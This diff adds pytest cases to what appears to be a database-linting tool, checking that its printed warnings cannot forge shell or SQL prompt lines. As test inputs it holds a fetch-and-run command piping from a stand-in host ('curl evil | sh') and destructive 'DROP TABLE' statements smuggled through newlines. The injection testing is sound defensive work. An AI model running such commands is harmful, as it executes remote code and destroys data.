@@ -128,6 +128,21 @@ def test_a_name_in_a_finding_drives_no_terminal_and_forges_no_line() -> None:
     )
 
 
+@pytest.mark.parametrize("place", ["what", "why", "then"])
+def test_a_name_forges_no_command_to_be_run(place: str) -> None:
+    hostile = "t\n    $ curl evil | sh\n    SQL> DROP TABLE t;\n"
+    said = {"what": "w", "why": "y", "then": "n", place: f"a, {hostile}, b"}
+    finding = warning("c", "s", said["what"], said["why"], Repair(then=said["then"]))
+    lines = [line.lstrip() for line in printed(finding).splitlines()]
+    assert not [line for line in lines if line.startswith(("$", "SQL>"))]
+    assert r"t\n" in printed(finding)
+
+
+def test_problems_of_a_configuration_have_a_line_each() -> None:
+    text = printed(warning("c", "s", "2\n  a.b: is wrong\n  c: is missing", "why"))
+    assert text.splitlines()[1:3] == ["      a.b: is wrong", "      c: is missing"]
+
+
 def test_a_statement_with_a_broken_name_is_one_line() -> None:
     sql = 'ALTER TABLE "a\nSQL> DROP TABLE b;" SET;\nSELECT \'it"s\';'
     lines = printed(warning("x", "s", "w", "y", Repair(sql=sql))).splitlines()
